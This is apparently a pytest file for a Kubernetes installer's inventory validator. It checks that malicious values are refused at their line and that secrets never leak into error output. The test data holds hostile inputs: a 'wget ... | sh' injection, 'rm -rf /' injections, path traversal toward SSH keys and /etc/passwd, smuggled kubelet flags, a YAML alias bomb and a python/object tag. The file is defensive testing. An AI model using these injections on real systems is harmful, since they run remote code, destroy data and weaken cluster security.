"""Values a careless or hostile user may write: each is refused at validate with its file, line and
key, never an internal error, never echoing a secret."""

import json
import time

import pytest
from click.testing import CliRunner

from installer.cli import cli
from installer.inventory.validate import validate
from tests.inventories import GROUPS, one_host


def _inventory(tmp_path, cluster_vars: str = "", host_vars: str = "") -> str:
    return str(one_host(tmp_path, cluster_vars, host_vars))


@pytest.fixture(autouse=True)
def _in_tmp(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # findings name files relative to here


def _errors(path) -> list[str]:
    return [f.text() for f in validate(path).report.errors]


@pytest.mark.parametrize("setting, line, key", [
    ('cluster_name: "corp.local\\n"', 3, "$.all.vars.cluster_name"),
    ('drain_timeout: "360s\\n"', 3, "$.all.vars.drain_timeout"),
    ("kube_apiserver_port: 6443.0", 3, "$.all.vars.kube_apiserver_port"),
    ('verify_external_name: "kubernetes.io; wget http://x | sh"', 3, "$.all.vars.verify_external_name"),
    ("containerd_registries_mirrors: [{prefix: ../../../root/.ssh, mirrors: [{host: 'https://m.example'}]}]", 3,
     "$.all.vars.containerd_registries_mirrors[0].prefix"),
    ("""containerd_registries_mirrors: [{prefix: docker.io, mirrors: [{host: 'https://m"] x = "1'}]}]""", 3,
     "$.all.vars.containerd_registries_mirrors[0].mirrors[0].host"),
    ("kube_feature_gates: ['A=true --anonymous-auth=true']", 3, "$.all.vars.kube_feature_gates[0]"),
    ("etcd_data_dir: /var/lib/etcd/../../../usr", 3, "$.all.vars.etcd_data_dir"),
])
def test_a_value_that_would_escape_where_it_lands_is_refused_at_its_line(tmp_path, setting, line, key):
    errors = _errors(_inventory(tmp_path, setting))
    assert len(errors) == 1, errors
    assert errors[0].startswith(f"hosts.yml:{line}:") and f" {key}: " in errors[0], errors


@pytest.mark.parametrize("host_vars, key", [
    ('{node_labels: {role: "worker --authorization-mode=AlwaysAllow"}}', "node_labels.role"),
    ('{node_labels: {"a,b": c}}', "node_labels"),
    ('{node_labels: {"zone": "a=b"}}', "node_labels.zone"),
    ('{node_taints: ["k=v,x=y:NoSchedule"]}', "node_taints[0]"),
    ('{node_taints: ["k=v --x:NoSchedule"]}', "node_taints[0]"),
    ('{etcd_member_name: "etcd1\\n"}', "etcd_member_name"),
])
def test_labels_taints_and_names_follow_kubernetes_syntax(tmp_path, host_vars, key):
    errors = _errors(_inventory(tmp_path, host_vars=host_vars))
    assert len(errors) == 1 and f"$.all.hosts.n1.{key}" in errors[0], errors


def test_a_value_with_a_newline_is_shown_escaped(tmp_path):
    errors = _errors(_inventory(tmp_path, 'cluster_name: "corp.local\\n"'))
    assert "\n" not in errors[0] and '"corp.local\\n" is not a DNS domain' in errors[0]


def test_kubernetes_label_syntax_is_accepted(tmp_path):
    path = _inventory(tmp_path, host_vars='{node_labels: {"example.com/zone": "eu-west-1a", tier: "", "a.b": x_y.z},'
                                         ' node_taints: ["dedicated=db:NoSchedule", "example.com/gpu:NoExecute"]}')
    assert validate(path).report.ok


@pytest.mark.parametrize("pattern, message", [
    ("node[1:6:0]", "has stride 0; a stride is 1 or more"),
    ("node[5:1]", "runs backwards (5 is after 1) and names no host; write [1:5]"),
    ("node[1:30000]", "names 30000 hosts; kinstall takes at most 10000 from one range"),
])
def test_host_ranges_ansible_would_refuse_are_refused_at_their_key(tmp_path, pattern, message):
    (tmp_path / "hosts.yml").write_text(
        "all:\n  children:\n    kube_control_plane: {hosts: {n1: }}\n    etcd: {hosts: {n1: }}\n"
        f"    kube_node:\n      hosts:\n        '{pattern}':\n")
    started = time.perf_counter()
    errors = _errors(tmp_path / "hosts.yml")
    assert time.perf_counter() - started < 5
    assert errors == [f'hosts.yml:7:9: $.all.children.kube_node.hosts["{pattern}"]: host range \'{pattern}\' {message}']


def test_a_large_range_expands_in_linear_time(tmp_path):
    (tmp_path / "hosts.yml").write_text(
        "all:\n  vars: {kube_pods_subnet: 10.128.0.0/9, kube_service_addresses: 10.64.0.0/18}\n"
        "  children:\n    kube_control_plane: {hosts: {n1: }}\n    etcd: {hosts: {n1: }}\n"
        "    kube_node:\n      hosts:\n        'node[1:9999]':\n")
    started = time.perf_counter()
    result = validate(tmp_path / "hosts.yml")
    assert time.perf_counter() - started < 5
    assert result.report.ok and len(result.cluster.hosts) == 10000


def test_a_yaml_alias_bomb_stops_at_a_line_quickly(tmp_path):
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
    (tmp_path / "hosts.yml").write_text("\n".join(lines) + "\n")
    started = time.perf_counter()
    findings = validate(tmp_path / "hosts.yml").report.errors
    assert time.perf_counter() - started < 5
    assert [f.rule for f in findings] == ["yaml-aliases"] and findings[0].path.startswith("$.")


@pytest.mark.parametrize("tagged", ["!!timestamp notadate", "!!bool maybe", "!!int '12a'", "!!python/object:os.system x"])
def test_a_value_that_does_not_fit_its_yaml_tag_is_a_finding_at_its_line(tmp_path, tagged):
    errors = _errors(_inventory(tmp_path, f"cluster_name: {tagged}"))
    assert len(errors) == 1 and errors[0].startswith("hosts.yml:3:") and "$.all.vars.cluster_name" in errors[0]


def test_secrets_never_appear_in_findings_text_or_json(tmp_path):
    (tmp_path / "hosts.yml").write_text(
        "all:\n  hosts:\n    n1: {ansible_become_password: 918273645, ansible_password: [s3cr3t-pw]}\n"
        "    n2: {ceph_csi_user_key: AQBhiddenkey==}\n"
        "  vars: {ceph_csi_user_key: AQBotherhidden==}\n" + GROUPS.replace("n1: }}\n    kube_node", "n1: }}\n"
                                                                          "    kube_node").replace(
            "kube_node: {hosts: {n1: }}", "kube_node: {hosts: {n1: , n2: }}"))
    for output_format in ("text", "json"):
        result = CliRunner().invoke(cli, ["validate", "--format", output_format, str(tmp_path / "hosts.yml")])
        assert result.exit_code == 1, result.output
        for secret in ("918273645", "s3cr3t-pw", "AQBhiddenkey", "AQBotherhidden"):
            assert secret not in result.output
    body = json.loads(CliRunner().invoke(cli, ["validate", "--format", "json", str(tmp_path / "hosts.yml")]).output)
    assert any("ansible_become_password" in f["path"] for f in body["findings"])


@pytest.mark.parametrize("setting", [
    'kube_version: "{{ undefined_version }}"', 'kube_network_plugin: "{{ p }}"',
    'local_volume_provisioner_storage_classes: "{{ x }}"', 'nfs_storage_classes: "{{ x }}"',
    'kube_pods_subnet: "{{ s }}"', 'kube_version: "{{ ansible_os_family }}"'])
def test_a_jinja_value_kinstall_needs_and_cannot_work_out_is_refused_not_a_crash(tmp_path, setting):
    for command in ("validate", "plan"):
        result = CliRunner().invoke(cli, [command, _inventory(tmp_path, setting)])
        assert result.exit_code == 1, result.output
        assert "is a Jinja expression kinstall cannot work out from the inventory" in result.output


def test_a_jinja_value_is_worked_out_as_ansible_would_then_checked(tmp_path):
    result = validate(_inventory(tmp_path, 'k8s_release: 1.35.8\nkube_version: "{{ k8s_release }}"\n'
                                           'kube_network_node_prefix: "{{ 20 + 4 }}"'))
    assert result.report.ok, result.report.as_text()
    assert result.cluster.release.version == "1.35.8" and result.cluster.settings["kube_network_node_prefix"] == 24
    errors = _errors(_inventory(tmp_path, "cluster_name: \"{{ 'Not A Domain' }}\""))
    assert errors == ["hosts.yml:3:5: $.all.vars.cluster_name: 'cluster_name' comes out as 'Not A Domain': "
                      "'Not A Domain' is not a DNS domain such as cluster.local"]


def test_a_jinja_value_that_needs_a_host_is_left_to_ansible_where_kinstall_does_not_read_it(tmp_path):
    report = validate(_inventory(
        tmp_path, "local_release_dir: \"{{ '/tmp/releases' if inventory_hostname != 'localhost' else '/x' }}\"")).report
    assert report.ok and [f.rule for f in report.warnings] == ["templated"]


def test_metrics_server_without_kubelet_certificate_checks_is_said(tmp_path):
    report = validate(_inventory(tmp_path, "metrics_server_enabled: true")).report
    assert report.ok and "metrics-server-tls" in {f.rule for f in report.warnings}
    assert not validate(_inventory(tmp_path, "metrics_server_enabled: false")).report.warnings


@pytest.mark.parametrize("setting, key, says", [
    ('audit_policy_custom_rules: "- level: Metadata\\n  - broken"', "audit_policy_custom_rules",
     "does not parse as YAML"),
    ('audit_policy_custom_rules: "- level: Everything"', "audit_policy_custom_rules",
     "rule 1 has no level of None, Metadata, Request, RequestResponse"),
    ('audit_policy_custom_rules: "level: Metadata"', "audit_policy_custom_rules", "is not a list of rules"),
    ("audit_log_hostpath: /etc", "audit_log_hostpath", "a system directory"),
    ("audit_log_hostpath: /var/log/../../etc", "audit_log_hostpath", "is not an absolute path"),
    ("audit_policy_file: /etc/kubernetes/manifests/policy.yaml", "audit_policy_file", "a system directory"),
    ("audit_policy_file: /etc/passwd", "audit_policy_file", "ending in .yaml or .yml"),
    ("audit_log_mountpath: /var/log/other", "audit_log_mountpath", "is not in audit_log_mountpath"),
])
def test_an_audit_setting_that_cannot_work_or_would_expose_the_host_is_refused_at_its_key(tmp_path, setting, key,
                                                                                          says):
    errors = _errors(_inventory(tmp_path, "kubernetes_audit: true\n" + setting))
    assert len(errors) == 1 and f"$.all.vars.{key}: " in errors[0] and says in errors[0], errors


def test_kubesprays_audit_settings_and_custom_rules_are_accepted(tmp_path):
    rules = '"- level: None\\n  nonResourceURLs: [/healthz*]\\n- level: RequestResponse\\n  resources: [{group: \\"\\"}]"'
    assert _errors(_inventory(tmp_path, f"kubernetes_audit: true\naudit_log_path: /var/log/kube-apiserver-log.json\n"
                                        f"audit_policy_custom_rules: {rules}\nremove_anonymous_access: true")) == []


@pytest.mark.parametrize("setting, key", [
    ("kube_encryption_algorithm: aesctr", "kube_encryption_algorithm"),
    ("kube_encryption_resources: ['secrets; rm -rf /']", "kube_encryption_resources[0]"),
    ("kube_encrypt_token: short-secret-value", "kube_encrypt_token"),
])
def test_an_encryption_setting_kubernetes_would_refuse_is_refused_at_its_key_and_the_key_never_shown(tmp_path, setting,
                                                                                                  key):
    errors = _errors(_inventory(tmp_path, "kube_encrypt_secret_data: true\n" + setting))
    assert len(errors) == 1 and f"$.all.vars.{key}: " in errors[0], errors
    assert "short-secret-value" not in errors[0]


def _with_backup_host(tmp_path, cluster_vars: str) -> str:
    """n1 in every role, and backup1 in no group: a host that only keeps backups."""
    text = ("all:\n  vars:\n" + "".join(f"    {line}\n" for line in cluster_vars.splitlines())
            + "  hosts:\n    backup1: {ansible_host: 10.0.0.9}\n" + GROUPS)
    (tmp_path / "hosts.yml").write_text(text)
    return str(tmp_path / "hosts.yml")


@pytest.mark.parametrize("target, says", [
    ("backup1", "is not HOST:/absolute/directory"),  # neither a host's directory nor an absolute path
    ("backup1:var/backups", "is not HOST:/absolute/directory"),
    ("rsync://backup1/etcd", "is not HOST:/absolute/directory"),
    ("/var/backups/../../etc", "is not HOST:/absolute/directory"),
    ("'/srv/backups; rm -rf /'", "is not HOST:/absolute/directory"),
    ("backup2:/var/backups/etcd", "names host 'backup2', which is not a host of this inventory; did you mean 'backup1'?"),
    ("n1:/var/backups/kinstall-etcd", "the etcd member that takes the backups"),
    ("backup1:/etc", "is a system directory"),
    ("/usr/local", "is a system directory"),
    ("/var/backups/etcd", "where the member keeps its own snapshots"),
])
def test_a_backup_target_that_is_not_another_hosts_directory_or_an_absolute_path_is_refused_at_its_key(
        tmp_path, target, says):
    errors = _errors(_with_backup_host(tmp_path, f"etcd_backup_schedule: daily\netcd_backup_retention_count: 3\n"
                                                 f"etcd_backup_target: {target}"))
    assert len(errors) == 1 and "$.all.vars.etcd_backup_target: " in errors[0] and says in errors[0], errors


def test_scheduled_backups_to_a_host_of_their_own_are_accepted_and_half_set_ones_are_warned(tmp_path):
    report = validate(_with_backup_host(tmp_path, "etcd_backup_schedule: '*-*-* 02:30:00'\n"
                                                  "etcd_backup_retention_count: 3\n"
                                                  "etcd_backup_target: backup1:/var/backups/kinstall-etcd")).report
    assert report.ok and not [f for f in report.warnings if f.rule in ("etcd-backup", "unused-host")], \
        report.as_text()
    report = validate(_with_backup_host(tmp_path, "etcd_backup_schedule: daily")).report
    said = " ".join(f.text() for f in report.warnings if f.rule == "etcd-backup")
    assert report.ok and "stay on the first etcd member only" in said and "keep every snapshot" in said, said
    report = validate(_with_backup_host(tmp_path, "etcd_backup_target: /mnt/backups/etcd")).report
    said = " ".join(f.text() for f in report.warnings if f.rule == "etcd-backup")
    assert report.ok and "etcd_backup_schedule is empty" in said, said
